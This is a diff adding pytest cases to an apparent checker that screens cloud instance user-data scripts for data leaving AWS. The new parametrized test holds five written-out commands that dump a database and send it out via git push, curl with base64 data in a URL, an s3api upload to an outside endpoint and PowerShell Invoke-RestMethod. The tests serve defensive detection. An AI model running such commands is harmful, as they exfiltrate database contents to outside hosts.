@@ -329,3 +329,46 @@ def test_a_download_with_trailing_options_names_no_destination() -> None:
         "rclone copy offsite:seed /data --transfers 4 && " + LOCAL,
     )
     _allowed([*region.resources, job], job)
+
+
+# Forms the instances' user data reader knew (one reader of command lines since the reconcile merge) -------
+
+
+@pytest.mark.parametrize(
+    ("script", "shown"),
+    [
+        (
+            f"{DUMP} > /tmp/d.sql && git -C /tmp push https://github.com/acme/dumps.git",
+            "github.com/acme/dumps",
+        ),
+        (f"{DUMP} > /tmp/d.sql && git push git@github.com:acme/dumps.git main", "github.com"),
+        (
+            'curl -fsS "https://collect.partner.example/?d=$(' + DUMP + ' | base64 -w0)"',
+            "collect.partner.example",
+        ),
+        (
+            f"{DUMP} > /tmp/d.sql && aws s3api put-object --bucket dumps --key d.sql --body /tmp/d.sql "
+            "--endpoint-url https://s3.wasabisys.com",
+            "s3.wasabisys.com",
+        ),
+        (
+            f"{DUMP} > /tmp/d.sql && pwsh -c 'Invoke-RestMethod -Method Post -InFile /tmp/d.sql "
+            "-Uri https://uploads.partner.example/d'",
+            "uploads.partner.example",
+        ),
+    ],
+    ids=["git push -C", "git push scp form", "data in the URL", "s3api endpoint outside", "powershell"],
+)
+def test_a_push_an_s3api_write_elsewhere_or_data_in_a_url_sends_the_dump_out(script: str, shown: str) -> None:
+    region = eu_region()
+    job = _job(region, script)
+    found = _blocked([*region.resources, job], job)
+    assert shown in found and "outside AWS" in found, found
+
+
+def test_a_download_whose_path_names_a_version_variable_names_no_destination() -> None:
+    region = eu_region()
+    job = _job(
+        region, "curl -fsSL https://releases.tool.example.com/$TOOL_VERSION/tool.tgz | tar xz && " + LOCAL
+    )
+    _allowed([*region.resources, job], job)
